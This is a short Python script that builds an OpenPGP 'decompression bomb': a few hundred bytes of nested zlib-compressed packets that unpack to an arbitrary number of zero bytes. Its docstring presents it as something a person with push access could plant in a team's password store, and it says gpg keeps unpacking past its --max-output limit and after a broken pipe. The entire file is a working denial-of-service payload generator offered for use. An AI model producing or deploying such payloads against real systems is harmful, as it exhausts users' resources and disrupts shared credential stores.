#!/usr/bin/env python3
"""Writes to stdout an OpenPGP message of a few hundred bytes that unpacks to SIZE bytes:
compressed packets (zlib) nested LEVELS deep around a literal packet of zeros, as
someone who can push to a team's password store could put there as an entry. gpg goes
on unpacking it after its own --max-output and after a broken pipe.

usage: openpgp_bomb.py LEVELS SIZE
"""
import sys
import zlib


def literal_zeros(size, chunk=1 << 20):
    """A literal packet (old format, length to the end) of `size` zeros, compressed."""
    compressor = zlib.compressobj(9)
    # Tag 11 (literal), binary, no file name, date 0.
    parts = [compressor.compress(b"\xaf" + b"b\x00" + b"\x00" * 4)]
    zeros = b"\x00" * chunk
    for _ in range(size // chunk):
        parts.append(compressor.compress(zeros))
    parts.append(compressor.flush())
    return b"".join(parts)


def main():
    levels, size = int(sys.argv[1]), int(sys.argv[2])
    # Tag 8 (compressed, old format, length to the end), algorithm 2 (zlib).
    data = b"\xa3\x02" + literal_zeros(size)
    for _ in range(levels - 1):
        data = b"\xa3\x02" + zlib.compress(data, 9)
    sys.stdout.buffer.write(data)


main()
